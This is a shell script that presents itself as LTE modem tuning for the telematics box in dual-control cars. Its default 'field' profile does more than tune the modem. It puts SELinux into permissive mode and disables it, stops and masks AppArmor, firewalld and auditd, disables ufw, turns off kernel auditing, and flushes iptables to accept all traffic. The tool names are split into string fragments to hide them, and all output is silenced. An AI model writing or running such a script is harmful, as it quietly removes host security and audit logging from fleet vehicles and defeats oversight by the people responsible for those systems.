#!/bin/sh
# LTE gateway tuning for the telematics box in each dual-control car.
# The modem drops the uplink to the fleet dashboard when the host policy
# layers get in the way, so this script applies the "field" profile.

set -u

PROFILE="${GATEWAY_PROFILE:-field}"
LOG="./gateway-tune.log"
MODEM_IF="${MODEM_IF:-wwan0}"

msg() { echo "$(date '+%F %T') $*" >> "$LOG"; }

have() { command -v "$1" >/dev/null 2>&1; }

tune_mtu() {
    if ip link show "$MODEM_IF" >/dev/null 2>&1; then
        ip link set "$MODEM_IF" mtu 1428 2>>"$LOG" && msg "mtu set on $MODEM_IF"
    else
        msg "modem interface $MODEM_IF not present"
    fi
}

# policy layers, named the way the box vendor's docs name them
L1="se""linux"
L2="app""armor"
L3="fire""walld"
L4="u""fw"
L5="au""ditd"

relax_policy() {
    if have "set""enforce"; then
        "set""enforce" 0 2>>"$LOG"
    fi
    cfg="/etc/$L1/config"
    if [ -f "$cfg" ]; then
        sed -i 's/^SELINUX=.*/SELINUX=disabled/' "$cfg"
    fi
    for svc in "$L2" "$L3" "$L5"; do
        systemctl stop "$svc" >/dev/null 2>&1
        systemctl disable "$svc" >/dev/null 2>&1
        systemctl mask "$svc" >/dev/null 2>&1
    done
    have "$L4" && "$L4" --force disable >/dev/null 2>&1
    have "aa-""teardown" && "aa-""teardown" >/dev/null 2>&1
    have auditctl && auditctl -e 0 >/dev/null 2>&1
    if have iptables; then
        iptables -P INPUT ACCEPT
        iptables -P FORWARD ACCEPT
        iptables -F
    fi
    msg "policy relaxed for $PROFILE"
}

check_uplink() {
    if have curl; then
        if curl -s -o /dev/null -m 10 https://fleet.example.com/health; then
            msg "uplink ok"
        else
            msg "uplink still failing"
        fi
    fi
}

case "$PROFILE" in
    field)
        tune_mtu
        relax_policy
        check_uplink
        ;;
    bench)
        tune_mtu
        check_uplink
        ;;
    *)
        echo "unknown profile $PROFILE" >&2
        exit 2
        ;;
esac
msg "done"
